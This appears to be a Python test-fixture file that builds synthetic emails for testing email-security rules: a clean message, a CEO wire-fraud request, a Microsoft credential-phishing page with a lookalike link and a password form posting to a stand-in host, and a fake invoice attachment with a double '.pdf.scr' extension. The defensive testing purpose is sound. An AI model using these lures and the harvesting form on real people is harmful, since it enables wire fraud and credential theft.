"""Messages of our own making, in the shapes that the rules are about."""

from __future__ import annotations

from email.utils import format_datetime
from datetime import datetime, timedelta, timezone

START = datetime(2026, 5, 4, 8, 30, tzinfo=timezone.utc)
ORG = "example-corp.com"


def stamp(seconds: float = 0) -> str:
    return format_datetime(START + timedelta(seconds=seconds))


def hop(by: str, frm: str, seconds: float = 0) -> tuple[str, str]:
    return "Received", f"from {frm} ({frm} [192.0.2.7]) by {by} with ESMTPS id x1; {stamp(seconds)}"


CLEAN = [
    hop("mx.example-corp.com", "out.example.org", 4),
    hop("out.example.org", "app.example.org", 1),
    ("Authentication-Results", "mx.example-corp.com; spf=pass smtp.mailfrom=a@example.org; dkim=pass header.d=example.org; dmarc=pass"),
    ("DKIM-Signature", "v=1; d=example.org; b=AAAA"),
    ("Return-Path", "<a@example.org>"),
    ("From", "Ann Example <a@example.org>"),
    ("To", "team@example-corp.com"),
    ("Subject", "Minutes of the meeting"),
    ("Date", stamp(4)),
    ("Message-ID", "<m1@example.org>"),
]


def message(changes: dict[str, str | list[str] | None] | None = None, body: str = "The minutes are in the usual place.", kind: str = 'text/plain; charset="utf-8"', base=CLEAN) -> bytes:
    """The clean message with headers replaced (None drops them, a list repeats them)."""
    changes = changes or {}
    out = [(k, v) for k, v in base if k not in changes]
    for k, v in changes.items():
        out += [(k, x) for x in (v if isinstance(v, list) else [v]) if x is not None]
    out.append(("Content-Type", kind))
    return ("\r\n".join(f"{k}: {v}" for k, v in out) + "\r\n\r\n" + body.replace("\n", "\r\n")).encode()


def html(body: str, changes: dict | None = None) -> bytes:
    return message(changes, f"<html><body>{body}</body></html>", 'text/html; charset="utf-8"')


def parts(*pieces: tuple[str, str, str], changes: dict | None = None) -> bytes:
    """A multipart message; each piece is (content type, file name or '', payload)."""
    chunks = []
    for kind, name, payload in pieces:
        head = f"Content-Type: {kind}\n" + (f'Content-Disposition: attachment; filename="{name}"\n' if name else "")
        chunks.append(f"--b0\n{head}\n{payload}\n")
    return message(changes, "".join(chunks) + "--b0--\n", 'multipart/mixed; boundary="b0"')


def wire_fraud() -> bytes:
    return message(
        {
            "Received": [hop("mx.example-corp.com", "mail-x.google.com", 2)[1]], "Authentication-Results": "mx.example-corp.com; spf=pass smtp.mailfrom=boss.x@gmail.com; dkim=pass header.d=gmail.com; dmarc=pass",
            "DKIM-Signature": None, "Return-Path": "<boss.x@gmail.com>", "From": "Pat Boss | CFO, Example Corp <boss.x@gmail.com>", "Reply-To": "boss@payments-desk.online", "Subject": "Re: Urgent transfer", "Message-ID": "<q@mail.gmail.com>",
        },
        "Hello,\n\nare you available? I am in a meeting and need a wire transfer today, I will send the beneficiary details.\nPlease keep this confidential. It is time sensitive.\n",
    )


def credential_theft() -> bytes:
    return html(
        '<div style="display:none">quarterly newsletter shipping regards invoice confirmation</div><p>Dear customer, we saw unusual activity. Verify your account within 24 hours or it will be closed.</p>'
        '<a href="https://login.microsoft.com.signin.micros0ft.tk/auth/login/verify?url=https://evil.example">https://login.microsoft.com/verify</a>'
        '<form action="https://collect.example.top/x"><input type="password" name="pwd"></form>',
        {
            "Received": [hop("mx.example-corp.com", "vps.cheap.xyz", 2)[1]], "Authentication-Results": "mx.example-corp.com; spf=fail smtp.mailfrom=x@micros0ft.tk; dkim=none; dmarc=fail", "DKIM-Signature": None,
            "From": "Microsoft Security <x@micros0ft.tk>", "Return-Path": "<b@micros0ft.tk>", "Reply-To": "r@desk.top", "X-Mailer": "PHPMailer 6.8", "Message-ID": "<1@cheap.xyz>",
        },
    )


def malware() -> bytes:
    return parts(
        ("text/plain; charset=utf-8", "", "Dear Customer,\nthe archive password is 1234. Open it immediately."),
        ("application/zip", "invoice.zip", "UEsDBA=="),
        ("application/octet-stream", "invoice.pdf.scr", "TVqQ"),
        changes={"Received": [hop("mx.example-corp.com", "a.click", 2)[1]], "Authentication-Results": "mx; spf=softfail smtp.mailfrom=b@a.click; dkim=none; dmarc=fail", "DKIM-Signature": None, "From": "DHL Billing <b@a.click>", "Return-Path": "<b@a.click>", "Message-ID": "<z@a.click>", "Subject": "FW: parcel held"},
    )
